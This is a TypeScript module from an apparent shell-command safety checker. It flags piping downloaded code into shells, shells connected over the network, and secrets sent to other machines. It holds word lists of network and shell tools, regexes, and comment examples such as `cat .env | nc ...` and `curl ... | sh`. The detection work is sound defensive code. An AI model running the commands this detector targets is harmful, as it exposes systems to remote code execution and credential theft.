import { lazily, wordSet } from '../lazily.ts';
import type { Site } from '../shell/site.ts';
import type { ShellWord } from '../shell/word.ts';
import type { Judging } from './judging.ts';
import { secretPath } from './paths.ts';

const wrappers = wordSet('sudo doas env command exec nohup time timeout nice stdbuf setsid busybox');
const shells = wordSet('sh bash dash zsh ksh ash fish');
const evaluators = wordSet('eval source .');
const interpreters = wordSet('python python2 python3 perl ruby node nodejs php lua deno bun pwsh');
const fetchers = wordSet('curl wget fetch aria2c http https xh lynx w3m nc ncat netcat socat ssh ftp GET lwp-request');
const senders = wordSet('curl wget http https xh nc ncat netcat socat telnet ftp mail mailx sendmail mutt');

/**
 * What no single command shows, but two that meet do: `curl ... | sh`, `cat .env | nc ...`, a shell on a connection. It only
 * says more about a line that asks anyway.
 * @param whole the text that spans refer to
 */
export function judgeAcross(judge: Judging, site: Site, whole: string): void {
  if (judge.findings.length + judge.blindSpots.length === 0) return;
  const [program, ...rest] = unwrapped(site.words);
  if (program === undefined) return;
  const name = baseOf(program);
  const isShell = shells.has(name);
  if (!isShell && !evaluators.has(name) && !interpreters.has(name) && !senders.has(name)) return;
  // The nearest ones: a pipeline of thousands must not be gone through for each of its commands.
  const from = site.from.slice(-16).map(({ words }) => unwrapped(words));
  const written = rest.some(({ kind }) => kind !== 'known') ? whole.slice(site.span[0], Math.min(site.span[1], site.span[0] + 4096)) : '';
  const runsInput = (isShell || interpreters.has(name)) && readsCode(rest, isShell) && from.some(([first]) => fetchers.has(baseOf(first)));
  const runsFetched = (isShell || evaluators.has(name)) && fetched().test(written);
  if (runsInput || runsFetched) {
    const why = 'runs code that another machine sends at that moment, so that nobody can have read it';
    judge.find('runs-fetched-code', 'critical', why, site.span, ['executes', 'network-in'], 'pack:interpreters');
  }
  const connected = isShell && site.redirects.some((each) => each.kind === 'file' && /^\/dev\/(tcp|udp)\//.test(each.target.value));
  const piped = senders.has(name) && from.some(([first]) => shells.has(baseOf(first)));
  if (connected || piped) {
    const why = 'connects a shell of this machine to another machine, which can then run anything here';
    judge.find('shell-over-network', 'critical', why, site.span, ['executes', 'network-out'], 'pack:interpreters');
  }
  if (senders.has(name) && (from.some((words) => readsSecret(judge, words)) || takesSecret(judge, site, written))) {
    const why = 'sends what a file or variable with secrets holds to another machine';
    judge.find('sends-secret', 'critical', why, site.span, ['exports-data', 'reads-secrets'], 'pack:network');
  }
}

const fetched = lazily(() => /(\$\(|<\(|`)\s*(sudo\s+)?(curl|wget|fetch|aria2c|lynx|nc|ncat|ssh)\s/);

/** `bash`, `bash -s -- x`, `python3 -`: the program itself comes from the input. */
function readsCode(rest: readonly ShellWord[], isShell: boolean): boolean {
  const first = rest.find(({ value }) => !/^-[a-zA-Z]*$/.test(value) && !/^--\w/.test(value));
  const values = rest.map(({ value }) => value);
  if (isShell)
    return !values.some((value) => /^-[a-z]*c/.test(value)) && (first === undefined || values.some((value) => /^-[a-z]*s/.test(value)));
  return values.includes('-') || (first === undefined && !values.some((value) => /^-[a-zA-Z]*[ecmnp]/.test(value)));
}

function readsSecret(judge: Judging, words: readonly ShellWord[]): boolean {
  if (words.length === 1 && /^(env|printenv)$/.test(baseOf(words[0]))) return true;
  return words.slice(1).some(({ kind, value }) => kind === 'known' && value.length < 4096 && secretPath(value, judge.context.cwd) !== null);
}

/** `curl ... < .env`, `curl "https://h/?d=$(cat .env)"`. */
function takesSecret(judge: Judging, { redirects }: Site, written: string): boolean {
  const { cwd } = judge.context;
  const inside = /\$\(|`/.test(written) ? written.split(/[\s"'`()=@<>|;&]+/).filter((part) => part !== '') : [];
  return (
    redirects.some((each) => each.kind === 'file' && each.operator === '<' && secretPath(each.target.value, cwd) !== null) ||
    inside.some((part) => !part.includes('://') && secretPath(part, cwd) !== null)
  );
}

/** Behind `sudo -u x`, `env A=b` and the like. */
function unwrapped(words: readonly ShellWord[]): readonly ShellWord[] {
  let index = 0;
  while (wrappers.has(baseOf(words[index]))) {
    index++;
    while (/^-|^\w+=|^\d+[smhd]?$/.test(words[index]?.value ?? '')) index += /^-[ugp]$/.test((words[index] as ShellWord).value) ? 2 : 1;
  }
  // `env` alone shows the environment.
  return index < words.length ? words.slice(index) : words;
}

function baseOf(word: ShellWord | undefined): string {
  const value = word?.value ?? '';
  return value.slice(value.lastIndexOf('/') + 1);
}
